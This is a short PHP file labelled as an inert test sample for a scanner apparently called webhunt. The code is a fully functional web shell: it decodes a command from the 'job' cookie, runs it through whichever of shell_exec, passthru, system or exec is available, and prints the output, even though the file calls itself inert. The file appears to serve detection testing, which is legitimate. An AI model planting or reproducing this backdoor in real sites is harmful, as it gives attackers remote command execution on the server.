<?php
// Inert test sample (webhunt): a command runner that tries each process function in turn until one
// exists; the names sit in a list and the loop variable is called with the cookie's command.
$runners = array('shell_exec', 'passthru', 'system', 'exec');
$job = isset($_COOKIE['job']) ? base64_decode($_COOKIE['job']) : '';
if ($job !== '') {
    ob_start();
    foreach ($runners as $runner) {
        if (is_callable($runner)) {
            echo $runner($job . ' 2>&1');
            break;
        }
    }
    echo '<pre>' . htmlspecialchars(ob_get_clean()) . '</pre>';
}
